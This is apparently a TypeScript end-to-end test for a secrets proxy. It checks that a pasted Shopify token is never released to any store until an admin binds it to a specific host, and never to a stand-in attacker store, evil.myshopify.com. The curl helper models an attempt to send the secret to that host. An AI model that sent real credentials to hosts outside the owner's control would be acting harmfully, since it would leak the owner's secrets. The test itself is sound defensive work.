/**
 * Issue 11, class 2, end to end over real sockets: a credential whose
 * provider's API hosts are multi-tenant (a Shopify token works on any
 * `*.myshopify.com` store, and anyone can open a store there) stays unbound
 * when an end user pastes it: neither the tool door nor the network door sends
 * it anywhere (`placeholder.unbound`), until an admin binds it with
 * `bastion secret pasted bind`, which refuses the namespace anyone can
 * register in and accepts the admin's own store only with the audited override.
 *
 * Before this change the token was vaulted bound to `*.myshopify.com`, and the
 * network door swapped it into a request to `evil.myshopify.com`.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { badUpstreamYaml, curlRaw, EGRESS_KEY, startHttpsOrigins, TEST_MASTER_KEY, type Origin, type TestEgress } from '../helpers/egress.ts';
import { pasteToModel, startModelDoor, type TestModelDoor } from '../helpers/model-door.ts';
import { runCli } from '../helpers/processes.ts';

const SHOP_TOKEN = `shpat_${'0f1e2d3c4b5a6978'.repeat(2)}`;
/** The denial for a pasted secret with no hosts (the release rule may name it `release.unbound`). */
const UNBOUND = /\b(?:placeholder|release)\.unbound\b/;
const FOREIGN_HOST = /\b(?:placeholder|release)\.foreign_host\b/;

let door: TestModelDoor;
let mine: Origin;
let evil: Origin;
let bastion: TestEgress;
let ph: string;
let token: string;

before(async () => {
  const { origins, upstreamCa } = await startHttpsOrigins(['mystore.myshopify.com', 'evil.myshopify.com']);
  [mine, evil] = origins;
  door = await startModelDoor(
    (providerUrl) => `version: 1
store: { sqlite: ./bastion.db }
egress:
  intercept: all
  staticHosts: { mystore.myshopify.com: [127.0.0.1], evil.myshopify.com: [127.0.0.1] }
upstreams:
  shop: ${badUpstreamYaml(['mystore.myshopify.com'])}
  evilshop: ${badUpstreamYaml(['evil.myshopify.com'])}
agents:
  support:
    keys: [env:EGRESS_KEY]
    tools: ["shop__*", "evilshop__*"]
    model: { provider: openai, baseUrl: "${providerUrl}/v1" }
    network: ["mystore.myshopify.com:${mine.port}", "evil.myshopify.com:${evil.port}"]
    unsafeAllowPrivate: { ranges: [127.0.0.1/32] }
`,
    { egress: { upstreamCa } },
  );
  bastion = door.bastion;
  const pasted = await pasteToModel(bastion, 'alice', `my shop token is ${SHOP_TOKEN}`);
  assert.ok(!pasted.answer.includes(SHOP_TOKEN), 'the model never sees the token');
  ph = pasted.placeholder as string;
  assert.ok(ph, 'the pasted token was vaulted');
  token = ph.slice('<<SECRET_'.length, -2);
});

after(async () => {
  await door?.close();
  await mine?.close();
  await evil?.close();
});

function cli(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  return runCli([...args, '--config', join(bastion.dir, 'bastion.yaml')], { env: { BASTION_MASTER_KEY: TEST_MASTER_KEY, EGRESS_KEY } });
}

function curl(host: string, port: number): Promise<string> {
  const proxy = `http://agent:${EGRESS_KEY}@127.0.0.1:${bastion.proxyUrl.port}`;
  return curlRaw(['-x', proxy, '--cacert', bastion.caFile, '-H', `X-Shopify-Access-Token: ${ph}`, '-H', 'Bastion-User: alice', `https://${host}:${port}/admin/api/shop.json`]);
}

async function callTool(name: string): Promise<{ text: string; isError: boolean; code?: string }> {
  const client = new Client({ name: 'pasted-bind-test', version: '1.0.0' });
  await client.connect(new StreamableHTTPClientTransport(bastion.running.url, { requestInit: { headers: { Authorization: `Bearer ${EGRESS_KEY}`, 'Bastion-User': 'alice' } } }));
  try {
    const r = (await client.callTool({ name, arguments: { text: ph } })) as { content: { text: string }[]; isError?: boolean; _meta?: Record<string, { code: string }> };
    const code = r._meta?.['bastion/error']?.code;
    return { text: r.content[0]?.text ?? '', isError: r.isError === true, ...(code !== undefined ? { code } : {}) };
  } finally {
    await client.close();
  }
}

async function lastReason(method: string): Promise<string> {
  await bastion.gateway.audit.flush();
  const records = await bastion.gateway.store.readAudit(1, 100_000);
  return records.filter((x) => x.method === method || (method === 'egress' && x.door === 'network')).at(-1)?.decision.reason ?? '';
}

test('a pasted Shopify token is vaulted with no hosts and listed as needing a bind', async () => {
  const list = await cli(['secret', 'pasted', 'list']);
  assert.equal(list.code, 0, list.stderr);
  assert.match(list.stdout, new RegExp(`^${token} {2}agent support {2}user "alice" {2}shopify-token {2}hosts \\(none: bind to use\\)`, 'm'));
  assert.ok(!list.stdout.includes(SHOP_TOKEN));
});

test('unbound: neither the network door nor the tool door sends it, to any store (placeholder.unbound)', async () => {
  for (const [host, origin] of [['evil.myshopify.com', evil], ['mystore.myshopify.com', mine]] as const) {
    const out = await curl(host, origin.port);
    assert.match(out, /\r\n\r\nHTTP\/1\.1 403 /, `${host}: ${out.slice(0, 300)}`);
    assert.match(out, UNBOUND, host);
    assert.ok(!out.includes(SHOP_TOKEN));
  }
  assert.equal(evil.received.length, 0);
  assert.equal(mine.received.length, 0);
  for (const tool of ['evilshop__fingerprint', 'shop__fingerprint']) {
    const r = await callTool(tool);
    assert.equal(r.isError, true, tool);
    assert.equal(r.code, 'ERR_PLACEHOLDER_DENIED', tool);
    assert.match(await lastReason('tools/call'), UNBOUND, tool);
  }
});

test('bind: the namespace anyone can register in is refused (exit 1); the admin\'s own store is bound with the override, audited', async () => {
  const wild = await cli(['secret', 'pasted', 'bind', token, '--hosts', '*.myshopify.com']);
  assert.equal(wild.code, 1, wild.stderr);
  assert.match(wild.stderr, /\(wildcard\.shared_suffix\)/);
  const noOverride = await cli(['secret', 'pasted', 'bind', token, '--hosts', 'mystore.myshopify.com']);
  assert.equal(noOverride.code, 1);
  assert.match(noOverride.stderr, /\(host\.under_shared_suffix\)/);
  assert.match(await curl('mystore.myshopify.com', mine.port), UNBOUND, 'refused binds changed nothing');

  const ok = await cli(['secret', 'pasted', 'bind', ph, '--hosts', 'mystore.myshopify.com', '--unsafe-allow-shared-suffix']);
  assert.equal(ok.code, 0, ok.stderr);
  const audit = await cli(['audit', 'tail', '--json']);
  const bind = audit.stdout.trim().split('\n').map((l) => JSON.parse(l) as { method: string; target: string; detail: Record<string, unknown> }).find((r) => r.method === 'secret.pasted.bind');
  assert.equal(bind?.target, token);
  assert.deepEqual(bind?.detail.unsafeAllowSharedSuffix, [{ host: 'mystore.myshopify.com', overridden: 'host.under_shared_suffix' }]);
  assert.ok(!audit.stdout.includes(SHOP_TOKEN));
});

test('bound: swapped for mystore.myshopify.com only; another store on the same suffix is still refused', async () => {
  const ok = await curl('mystore.myshopify.com', mine.port);
  assert.match(ok, /^HTTP\/1\.1 200 Connection Established\r\n\r\nHTTP\/1\.1 200 /, ok.slice(0, 300));
  assert.equal(mine.received.at(-1)?.headers['x-shopify-access-token'], SHOP_TOKEN);
  assert.ok(!ok.includes(SHOP_TOKEN), 'the echo comes back redacted');

  const other = await curl('evil.myshopify.com', evil.port);
  assert.match(other, /\r\n\r\nHTTP\/1\.1 403 /);
  assert.match(other, FOREIGN_HOST);
  assert.equal(evil.received.length, 0);

  const viaTool = await callTool('shop__fingerprint');
  assert.equal(viaTool.isError, false, JSON.stringify(viaTool));
  assert.equal(viaTool.text, createHash('sha256').update(SHOP_TOKEN).digest('hex'), 'the upstream on the bound host received the value');
  const refused = await callTool('evilshop__fingerprint');
  assert.equal(refused.code, 'ERR_PLACEHOLDER_DENIED');
  assert.match(await lastReason('tools/call'), FOREIGN_HOST);
});
